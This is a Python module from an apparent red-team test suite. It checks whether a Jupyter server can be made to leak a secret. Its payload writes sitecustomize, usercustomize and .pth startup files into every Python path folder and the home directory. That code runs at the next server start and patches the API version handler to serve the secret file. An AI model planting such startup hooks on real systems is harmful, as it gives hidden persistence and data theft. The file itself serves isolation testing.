from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

CODE = """
import atexit, os, sys, threading, time
def carry():
    for _ in range(200):
        found = sys.modules.get("jupyter_server.base.handlers")
        if found and hasattr(found, "APIVersionHandler"):
            def get(self):
                self.finish(open(os.path.expanduser("~/startup.bin"), "rb").read())
            found.APIVersionHandler.get = get
            return
        time.sleep(0.05)
threading.Thread(target=carry, daemon=True).start()
"""
WRITE = f"""
import os, site, sys
for folder in [site.getusersitepackages(), *sys.path[1:], os.getcwd(), os.path.expanduser("~")]:
    for name in ("sitecustomize.py", "usercustomize.py", "carried.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(
                "import carried_startup" if name.endswith("pth") else {CODE!r})
            open(os.path.join(folder, "carried_startup.py"), "w").write({CODE!r})
        except OSError as problem:
            print(problem)
"""


def plant(site: Target, secret: bytes) -> None:
    site.run(WRITE)


@channel(
    "startup-code",
    "Code that Python runs at the server's next start: sitecustomize, usercustomize, .pth files",
    closed_by="the desk runs isolated Python from its read-only image",
    stock="this image's environment belongs to root and takes nothing from the user's home",
    plant=plant,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run("import os; open(os.path.expanduser('~/startup.bin'), 'wb').write(secret);")
    return site.get("api").body
